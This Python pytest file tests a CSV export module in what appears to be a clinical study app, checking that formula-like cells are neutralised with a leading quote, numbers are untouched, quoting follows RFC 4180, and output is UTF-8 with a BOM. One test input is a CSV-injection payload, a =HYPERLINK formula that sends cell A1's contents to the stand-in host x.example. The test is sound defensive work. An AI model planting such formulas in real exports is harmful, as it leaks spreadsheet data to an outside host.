"""SEC-11: exported CSV cells that a spreadsheet would run as a formula are neutralised;
numbers are untouched; RFC 4180 quoting; UTF-8 with a BOM (studyapp.exports.csvfile)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, time, timedelta, timezone
from decimal import Decimal

import pytest

from studyapp.exports import csvfile

pytestmark = pytest.mark.req("SEC-11")


def written(rows, header=("a", "b")):
    out = io.BytesIO()
    count = csvfile.write(out, header, rows)
    return out.getvalue(), count


def read_back(data: bytes):
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        (
            '=HYPERLINK("http://x.example/?q="&A1,"click")',
            '\'=HYPERLINK("http://x.example/?q="&A1,"click")',
        ),
        ("-1+2", "'-1+2"),
        ("+1", "'+1"),
        ("@x", "'@x"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("\0x", "'\0x"),
        ("-5", "'-5"),  # text that looks like a number is still text
        ("Headache", "Headache"),
        ("a=b", "a=b"),  # only the first character matters
        ("", ""),
    ],
)
def test_text_cells_that_start_a_formula_get_a_quote(text, expected):
    data, _count = written([[text, "x"]])
    assert read_back(data)[1] == [expected, "x"]


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (-5, "-5"),
        (Decimal("-5"), "-5"),
        (Decimal("-2.50"), "-2.5"),
        (Decimal("1E+2"), "100"),
        (Decimal("0.0010"), "0.001"),
        (-1.5, "-1.5"),
        (3.0, "3"),
        (True, "Y"),
        (False, "N"),
        (None, ""),
    ],
)
def test_numbers_and_flags_are_untouched(value, expected):
    assert csvfile.cell(value) == expected


def test_rfc_4180_quoting_and_crlf():
    data, count = written([['a,b "c"', "line1\nline2"]])
    assert count == 1
    assert data == b'\xef\xbb\xbfa,b\r\n"a,b ""c""","line1\nline2"\r\n'


def test_chinese_text_round_trips_with_a_bom():
    data, _count = written([["头痛 (headache)", "鼻出血"]])
    assert data[:3] == b"\xef\xbb\xbf"
    assert read_back(data) == [["a", "b"], ["头痛 (headache)", "鼻出血"]]


def test_system_times_are_written_in_utc_and_clinical_dates_as_entered():
    shanghai = timezone(timedelta(hours=8))
    assert csvfile.cell(datetime(2024, 5, 14, 8, 30, tzinfo=shanghai)) == "2024-05-14T00:30:00Z"
    assert csvfile.cell(datetime(2024, 5, 14, 0, 30, tzinfo=UTC)) == "2024-05-14T00:30:00Z"
    assert csvfile.cell(date(2024, 5, 14)) == "2024-05-14"
    assert csvfile.cell(time(23, 45)) == "23:45:00"


def test_the_writer_leaves_the_stream_open_and_streams_an_iterator():
    out = io.BytesIO()
    rows = ([i, f"r{i}"] for i in range(3))  # a generator: nothing gathered first
    assert csvfile.write(out, ["n", "t"], rows) == 3
    assert not out.closed
    assert read_back(out.getvalue())[1:] == [["0", "r0"], ["1", "r1"], ["2", "r2"]]
